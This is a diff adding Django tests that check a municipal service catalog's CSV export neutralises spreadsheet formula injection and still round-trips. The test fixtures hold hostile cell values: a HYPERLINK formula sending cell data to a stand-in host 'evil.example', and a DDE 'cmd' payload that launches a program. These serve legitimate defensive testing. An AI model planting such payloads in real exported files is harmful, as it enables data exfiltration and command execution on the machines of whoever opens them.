@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import copy
+import csv
+import io
 import json
 from typing import Any
 
@@ -13,7 +15,7 @@ from django.test import Client
 from rathaus.catalog.models import Fee, LifeSituation, Service
 from rathaus.catalog.services import export_catalog, export_csv, import_catalog, parse_csv
 from rathaus.core.errors import ImportRejected
-from rathaus.core.testing import OrgUnitFactory, StaffFactory, login_staff
+from rathaus.core.testing import OrgUnitFactory, ServiceFactory, StaffFactory, login_staff
 from rathaus.identity.models import StaffRole
 
 
@@ -95,6 +97,57 @@ def test_csv_round_trip(tenant: Any, document: dict[str, Any]) -> None:
     assert labels[0] == "Zeile 2"
     import_catalog(tenant=tenant, document=parsed, row_labels=labels)
     assert export_catalog(tenant) == before
+
+
+def _runs_as_formula(cell: str) -> bool:
+    """What Excel and LibreOffice evaluate (OWASP "CSV injection"), also behind blanks and line breaks."""
+    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "'=", "''+", "'"])
+def test_csv_export_runs_no_formula_and_still_round_trips(tenant: Any, document: dict[str, Any], start: str) -> None:
+    document["services"][0].update(
+        name=f'{start}HYPERLINK("https://evil.example/?"&A1;"Antrag")',
+        short_description=f"{start}1+1",
+        description=f"{start}cmd|' /C calc'!A0\n\nZweiter Absatz.",
+        required_documents=[f"{start}Personalausweis", f"{start}Foto"],
+        fees=[{"label": f"{start}Grundgebühr", "amount_min": "1.00", "amount_max": "2.00", "legal_basis": ""}],
+        legal_basis=f"{start}§ 17 BMG",
+        processing_time=f"{start}2 Wochen",
+        ozg_topic=f"{start}Thema",
+        keywords=[f"{start}Umzug", "Ummeldung"],
+    )
+    import_catalog(tenant=tenant, document=document)
+    before = export_catalog(tenant)
+    text = export_csv(tenant)
+
+    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
+    assert len(rows) == 3
+    for row in rows:
+        for column, cell in row.items():
+            assert not _runs_as_formula(cell), (column, cell)
+    first = rows[0]
+    assert first["name"] == ("'" if start != "'" else "") + f'{start}HYPERLINK("https://evil.example/?"&A1;"Antrag")'
+
+    parsed, labels = parse_csv(text)
+    assert parsed["services"][0]["name"] == document["services"][0]["name"]
+    import_catalog(tenant=tenant, document=parsed, row_labels=labels)
+    assert export_catalog(tenant) == before
+
+
+def test_staff_csv_export_has_only_own_services_and_no_formula(
+    tclient: Client, tenant: Any, other_tenant: Any, document: dict[str, Any]
+) -> None:
+    document["services"][0]["name"] = "=1+1"
+    import_catalog(tenant=tenant, document=document)
+    ServiceFactory(tenant=other_tenant, name="Fremde Leistung", leika_key="99000000000999")
+    login_staff(tclient, StaffFactory(tenant=tenant, roles=[StaffRole.Role.DIGITALISATION]))
+    response = tclient.get("/intern/leistungen/export.csv")
+    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
+    rows = list(
+        csv.DictReader(io.StringIO(response.content.decode().removeprefix("\ufeff"), newline=""), delimiter=";")
+    )
+    assert sorted(row["name"] for row in rows) == ["'=1+1", "Leistung Nummer 2", "Leistung Nummer 3"]
 
 
 BROKEN = [
